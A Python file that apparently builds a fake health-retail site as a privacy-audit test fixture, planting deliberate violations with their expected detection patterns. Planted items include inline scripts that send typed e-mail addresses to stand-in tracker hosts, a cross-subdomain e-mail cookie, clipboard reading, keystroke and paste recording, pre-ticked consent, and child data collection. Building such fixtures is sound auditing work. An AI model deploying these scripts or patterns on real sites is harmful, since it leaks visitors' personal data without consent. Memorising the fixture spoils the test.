"""Pages whose forms ask, watch or send what they must not."""

from __future__ import annotations

import vendors
from registry import LEADS, METRICS, PX, REPLAY, SYNC, Plant, inline, page, tag

EMAIL = '<p><label>E-mail <input type="email" name="email" autocomplete="email"></label></p>'
NAME = '<p><label>Name <input type="text" name="name"></label></p>'
ASK = '<p><label>Your question <textarea name="question"></textarea></label></p>'
PHONE = '<p><label>Telephone <input type="tel" name="telephone"></label></p>'
NOTE = '<p class="notice">We keep what you send for 2 years, to answer you. See the <a href="/privacy/#how-we-use-information">privacy policy</a>.</p>'


def form(action: str, fields: str, button: str = "Send") -> str:
    """A plain form that posts to its own site."""
    return f'<form method="post" action="{action}">{NOTE}{fields}<p><button>{button}</button></p></form>'


page(
    "/quote/",
    "Ask for a call about coverage",
    form("/quote/", NAME + PHONE + ASK),
    Plant(
        "keylogger-post-json",
        "each key is recorded and posted while the visitor types, sent or not",
        "key-logger",
        ("6.1", "1.1", "14.2"),
        "cdn.replay.example",
        r"log:POST cdn\.replay\.example/i/k .*\"k\":",
        ("first", "type"),
        head=tag(vendors.KEYLOG),
    ),
    Plant(
        "draft-in-local-storage",
        "typed values are kept in local storage under an undeclared key",
        "storage-local",
        ("4.1", "1.1", "0.9"),
        "www.millbrook.example",
        "local:form_draft_v2",
        ("first", "type"),
        body=inline(
            "document.addEventListener('input',function(e){var d=JSON.parse(localStorage.getItem('form_draft_v2')||'{}');d[e.target.name]=e.target.value;localStorage.setItem('form_draft_v2',JSON.stringify(d))});"
        ),
    ),
)

page(
    "/newsletter/",
    "Newsletter",
    form(
        "/newsletter/",
        EMAIL
        + '<p><label><input type="checkbox" name="topics" value="classes"> Classes</label></p><p><label><input type="checkbox" name="choices_made" value="offers"> Tell me about offers by mail</label></p>',
        "Sign up",
    ),
    Plant(
        "blur-sha256-email",
        "leaving the e-mail field sends its SHA-256 to an advertiser (advanced matching)",
        "hash-sha256",
        ("1.1", "14.2", "1.6"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/tr/\?.*udff%5Bem%5D=[0-9a-f]{64}",
        ("first", "type", "blur"),
        head=tag(vendors.MATCH),
    ),
    Plant(
        "preticked-offers",
        "the box that allows offers by mail is ticked beforehand",
        "preticked",
        ("U.6", "9.1"),
        "www.millbrook.example",
        'markup:value="offers" checked',
        swap=(('value="offers">', 'value="offers" checked>'),),
    ),
)

page(
    "/careers/apply/",
    "Apply for a job",
    form("/careers/apply/", NAME + EMAIL + ASK),
    Plant(
        "form-foreign-action",
        "the form posts to another company's host",
        "form-action",
        ("1.6", "11.2", "14.2"),
        "forms.leadgen.example",
        f'markup:action="{LEADS}/apply"',
        ("first", "submit"),
        swap=(('action="/careers/apply/"', f'action="{LEADS}/apply"'),),
    ),
    Plant(
        "hidden-referrer-fields",
        "hidden fields carry the referrer and the landing address",
        "hidden-field",
        ("1.3", "3.4"),
        "www.millbrook.example",
        'markup:name="landing_url"',
        swap=((NAME, '<input type="hidden" name="ref_url"><input type="hidden" name="landing_url">' + NAME),),
        body=inline(
            "document.querySelector('[name=ref_url]').value=document.referrer;document.querySelector('[name=landing_url]').value=location.href;"
        ),
    ),
    parent=("/careers/", "Careers"),
)

page(
    "/events/register/",
    "Register for a class",
    '<form method="post" action="/events/register/">' + NOTE + EMAIL + "<p><button>Register</button></p></form>",
    Plant(
        "get-form-email",
        "the form uses GET, so the e-mail address stands in the URL",
        "form-get",
        ("1.1", "13.2", "3.4"),
        "www.millbrook.example",
        r"log:GET www\.millbrook\.example/events/thanks/\?email=",
        ("first", "submit"),
        swap=(('method="post" action="/events/register/"', 'method="get" action="/events/thanks/"'),),
    ),
)

page(
    "/events/thanks/",
    "You are registered",
    "<p>We look forward to seeing you.</p>",
    Plant(
        "email-in-referrer",
        "a third party's image gets the address of this page, with the e-mail in it, as referrer",
        "referrer-header",
        ("1.1", "12.3", "14.2"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/conv\.gif\S* .*REF=http://www\.millbrook\.example/events/thanks/",
        ("first", "submit"),
        hard=True,
        headers=(("Referrer-Policy", "no-referrer-when-downgrade"),),
        body=f'<img src="{PX}/conv.gif?e=event" alt="" width="1" height="1">',
    ),
    Plant(
        "email-dataset-px",
        "the e-mail in the URL is sent in clear as a user id",
        "image-get",
        ("1.1", "14.2"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/id\.gif\?uid=.+",
        ("first", "submit"),
        body=inline(
            f"(function(){{var m=new URLSearchParams(location.search).get('email');if(m)new Image().src='{PX}/id.gif?uid='+encodeURIComponent(m)}})();"
        ),
    ),
)

page(
    "/callback/",
    "Ask us to call back",
    form("/callback/", EMAIL + PHONE),
    Plant(
        "hash-md5-image",
        "MD5 of the e-mail in an image's query",
        "hash-md5",
        ("1.1", "14.2"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/collect\?v=2&uid=[0-9a-f]{32}\b",
        ("first", "type"),
        hard=True,
        head=tag(vendors.CALLBACK),
    ),
    Plant(
        "hash-sha1-json",
        "SHA-1 of the e-mail in a JSON body",
        "hash-sha1",
        ("1.1", "14.2"),
        "forms.leadgen.example",
        r"log:POST forms\.leadgen\.example/v1/identify .*[0-9a-f]{40}",
        ("first", "type"),
        hard=True,
    ),
    Plant(
        "hash-sha512-form",
        "SHA-512 of the e-mail, upper-case hexadecimal, form-encoded by sendBeacon",
        "hash-sha512",
        ("1.1", "14.2"),
        "sync.idgraph.example",
        r"log:POST sync\.idgraph\.example/idm .*hem=[0-9A-F]{128}",
        ("first", "type"),
        hard=True,
    ),
    Plant(
        "hash-sha3-header",
        "SHA3-256 of the e-mail in a request header",
        "hash-sha3",
        ("1.1", "14.2"),
        "cdn.abtest.example",
        r"log:GET cdn\.abtest\.example/api/profile .*XV=[0-9a-f]{64}",
        ("first", "type"),
        hard=True,
    ),
)

page(
    "/feedback/",
    "Tell us what you think",
    form("/feedback/", EMAIL + ASK),
    Plant(
        "split-parameters",
        "local part and domain of the e-mail in two parameters",
        "split",
        ("1.1", "14.2"),
        "forms.leadgen.example",
        r"log:GET forms\.leadgen\.example/p\.gif\?u=\S+&n=7&d=\S+",
        ("first", "type"),
        hard=True,
        head=tag(vendors.FEEDBACK),
    ),
    Plant(
        "nested-base64url",
        "base64url of JSON that holds base64 of JSON",
        "base64-nested",
        ("1.1", "14.2"),
        "forms.leadgen.example",
        r"log:GET forms\.leadgen\.example/c\?d=eyJ2Ijoz",
        ("first", "type"),
        hard=True,
    ),
    Plant(
        "reversed-email",
        "e-mail reversed in the path",
        "reversed",
        ("1.1", "14.2"),
        "forms.leadgen.example",
        r"log:GET forms\.leadgen\.example/r/\S+\.gif",
        ("first", "type"),
        hard=True,
    ),
    Plant(
        "double-url-encoded",
        "e-mail inside a URL, encoded three times",
        "url-encoded-nested",
        ("1.1", "14.2"),
        "forms.leadgen.example",
        r"log:GET forms\.leadgen\.example/go\?u=http%253A",
        ("first", "type"),
        hard=True,
    ),
    Plant(
        "gzip-body",
        "what is written in the comment, gzip, in a POST body",
        "gzip",
        ("1.1", "14.2"),
        "forms.leadgen.example",
        r"log:POST forms\.leadgen\.example/v2/batch",
        ("first", "type"),
        hard=True,
    ),
)

page(
    "/refill/",
    "Refill a prescription",
    form("/refill/", EMAIL + PHONE),
    Plant(
        "multipart-blob",
        "e-mail as bytes of a file in a multipart body",
        "multipart",
        ("1.1", "14.2"),
        "forms.leadgen.example",
        r"log:POST forms\.leadgen\.example/up .*f\.bin.*@",
        ("first", "type"),
        hard=True,
        head=tag(vendors.REFILL),
    ),
    Plant(
        "xhr-put-phone",
        "telephone number, digits only, by XMLHttpRequest PUT (after a preflight)",
        "xhr-put",
        ("1.1", "14.2"),
        "forms.leadgen.example",
        r"log:PUT forms\.leadgen\.example/contacts/mb .*phone",
        ("first", "type"),
        hard=True,
    ),
    Plant(
        "nested-frames",
        "a frame in a frame learns the page from ancestorOrigins and tells an advertiser",
        "iframe-nested",
        ("14.1", "14.2", "4.11"),
        "px.adtrack.example",
        r"log:GET px\.adtrack\.example/nest\.gif\?top=http",
        body=f'<iframe src="{LEADS}/outer.html" width="1" height="1" title="refill"></iframe>',
    ),
)

page(
    "/appeal/",
    "Appeal a decision",
    form("/appeal/", NAME + ASK) + "<p id='howto'>Copy this reference into your letter: MB-APPEAL-2026.</p>",
    Plant(
        "paste-exfil",
        "text that is pasted goes to a recorder",
        "paste",
        ("6.1", "1.1", "14.2"),
        "cdn.replay.example",
        r"log:POST cdn\.replay\.example/i/paste",
        ("first", "paste"),
        hard=True,
        head=tag(vendors.CLIP),
    ),
    Plant(
        "copy-exfil",
        "text that is copied goes to a recorder",
        "copy",
        ("6.1", "14.2"),
        "cdn.replay.example",
        r"log:GET cdn\.replay\.example/i/copy\.gif",
        ("first", "copy"),
        hard=True,
    ),
    Plant(
        "clipboard-read",
        "the clipboard is read on the first click",
        "clipboard-read",
        ("6.1", "4.7"),
        "www.millbrook.example",
        "api:clipboard.readText",
        ("secure-context", "click"),
        secure=True,
        hard=True,
        body=inline(
            "document.addEventListener('click',function(){if(navigator.clipboard)navigator.clipboard.readText().catch(function(){})},{once:true});"
        ),
    ),
)

page(
    "/eligibility/",
    "Check if you are eligible",
    form("/eligibility/", EMAIL + '<p><label>ZIP code <input name="zip_code"></label></p>', "Check"),
    Plant(
        "undeclared-field-ssn",
        "the form asks a social security number, which no collection declares",
        "form-field",
        ("1.3",),
        "www.millbrook.example",
        'markup:name="ssn"',
        swap=((EMAIL, '<p><label>Social security number <input name="ssn" inputmode="numeric"></label></p>' + EMAIL),),
    ),
    Plant(
        "undeclared-field-diagnosis",
        "the form asks for a diagnosis",
        "form-field",
        ("0.3", "1.3"),
        "www.millbrook.example",
        'markup:name="diagnosis"',
        swap=(
            (
                "<p><label>ZIP code",
                '<p><label>Diagnosis <select name="diagnosis"><option value="">none</option><option>Diabetes</option><option>Cancer</option></select></label></p><p><label>ZIP code',
            ),
        ),
    ),
    Plant(
        "email-in-domain-cookie",
        "the e-mail, base64, in a cookie for all our subdomains, so that the cloaked host gets it with each request",
        "cookie-value",
        ("1.1", "4.1", "4.6"),
        "metrics.millbrook.example",
        r"log:GET metrics\.millbrook\.example/px\.gif .*COOKIE=[^ ]*_mid=",
        ("first", "type"),
        hard=True,
        body=inline(
            f"document.addEventListener('change',function(e){{if(e.target.name!=='email')return;document.cookie='_mid='+btoa(e.target.value).replace(/=+$/,'')+';domain=.millbrook.example;path=/;max-age=31536000';new Image().src='{METRICS}/px.gif'}});"
        ),
    ),
)

SURVEY = '<fieldset><legend>How was your visit?</legend><label><input type="radio" name="rating" value="1"> Poor</label> <label><input type="radio" name="rating" value="5"> Good</label></fieldset><p><label>Your age <select name="age_range"><option value="">Prefer not to say</option><option>18-44</option><option>45 or older</option></select></label></p><p><label>Anything else? <textarea name="survey_comment"></textarea></label></p>'
page(
    "/survey/visit/",
    "Your visit",
    form("/survey/visit/", SURVEY, "Send answers"),
    Plant(
        "required-demographic",
        "the age question must be answered",
        "required-question",
        ("7.3",),
        "www.millbrook.example",
        'markup:name="age_range" required',
        swap=(
            (
                'name="age_range"><option value="">Prefer not to say</option>',
                'name="age_range" required><option value="">Choose</option>',
            ),
        ),
    ),
    Plant(
        "undeclared-income",
        "a survey question about income, which the policy does not name",
        "form-field",
        ("7.2", "1.3"),
        "www.millbrook.example",
        'markup:name="income"',
        swap=(
            (
                "<p><label>Anything else?",
                '<p><label>Household income <select name="income"><option value="">Prefer not to say</option><option>Under 20,000</option></select></label></p><p><label>Anything else?',
            ),
        ),
    ),
    parent=("/", "Home"),
)

page(
    "/healthy-living/recipes/",
    "Recipes",
    "<p>Bean soup, oat bread, and more.</p>",
    Plant(
        "survey-blocks-page",
        "an invitation to a survey covers the page and has no way to close it",
        "blocking-invitation",
        ("7.1",),
        "www.millbrook.example",
        "markup:survey-wall",
        body='<div id="survey-wall" role="dialog" aria-modal="true" style="position:fixed;inset:0;background:#fff;z-index:9999"><h2>Please answer our survey to go on</h2><p><a href="/survey/visit/">Start the survey</a></p></div>',
    ),
)

page(
    "/children/club/",
    "Kids' cooking club",
    "<p>A parent can sign a child up by telephone.</p>",
    Plant(
        "child-form",
        "a form for children takes first name and e-mail without a parent's consent or an age question",
        "child-collection",
        ("8.1", "8.2", "8.3"),
        "www.millbrook.example",
        "markup:child_first_name",
        body='<form method="post" action="/children/club/"><p>Hey kids! Join the club.</p><p><label>Your first name <input name="child_first_name"></label></p><p><label>Your e-mail <input type="email" name="email"></label></p><button>Join!</button></form>',
    ),
)

page(
    "/classes/start/",
    "Start a class",
    "<p>Classes are for adults. Please call us to start.</p>",
    Plant(
        "age-screen-back",
        "the age question is only a script: after an answer under 13, going back or reloading lets the child try again",
        "age-screen",
        ("8.2",),
        "www.millbrook.example",
        "markup:age-gate",
        ("first", "back"),
        hard=True,
        body='<form id="age-gate"><p><label>You must be 13 or older. Year of birth <input name="birth_year" inputmode="numeric" value="1990"></label></p><button>Go on</button></form><form id="class-form" method="post" action="/classes/start/" hidden><label>Name <input name="name"></label><button>Start</button></form>'
        + inline(
            "document.getElementById('age-gate').addEventListener('submit',function(e){e.preventDefault();var y=+this.birth_year.value;if(2026-y>=13){this.hidden=true;document.getElementById('class-form').hidden=false}else location.href='/children/club/'});"
        ),
    ),
)

assert REPLAY and SYNC
